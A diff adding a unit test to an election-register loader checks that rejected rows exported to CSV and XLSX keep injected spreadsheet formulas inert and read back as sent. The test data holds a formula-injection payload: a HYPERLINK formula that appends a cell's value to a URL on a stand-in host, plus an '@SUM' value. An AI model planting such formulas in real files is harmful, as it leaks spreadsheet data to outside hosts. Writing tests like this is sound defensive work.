@@ -402,3 +402,24 @@ def test_find_header_below_title_rows_and_over_two_rows():
 ])
 def test_cell_text(value, text):
     assert cell_text(value) == text
+
+
+def test_rejected_rows_never_become_live_formulas_and_load_back_as_sent(warehouse_dir, tmp_path):
+    register = tmp_path / "jahat.csv"
+    register.write_text('No. Register,Tanggal Kejadian,Kabupaten/Kota,Nama Terlapor,Uraian\n'
+                        '"=HYPERLINK(""http://x.example/?""&A1,""klik"")",18/09/2024,Tegal,Budi,"@SUM(A1)"\n',
+                        encoding="utf-8")
+    main(["load", str(register), "--election", "pilkada2024"])
+    for suffix in (".csv", ".xlsx"):
+        out = tmp_path / f"ditolak{suffix}"
+        assert main(["rejected", "--out", str(out)]) == 0
+        if suffix == ".xlsx":
+            sheet = load_workbook(out).active
+            cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+            assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
+            assert [cell.value for cell in cells][1:2] == ['\'=HYPERLINK("http://x.example/?"&A1,"klik")']
+        else:
+            assert "'=HYPERLINK(" in out.read_text(encoding="utf-8-sig")
+        [sheet] = read_register(out).sheets  # the loader reads back what the steward sent
+        assert sheet.frame.iloc[0]["No. Register"] == '=HYPERLINK("http://x.example/?"&A1,"klik")'
+        assert sheet.frame.iloc[0]["Uraian"] == "@SUM(A1)"
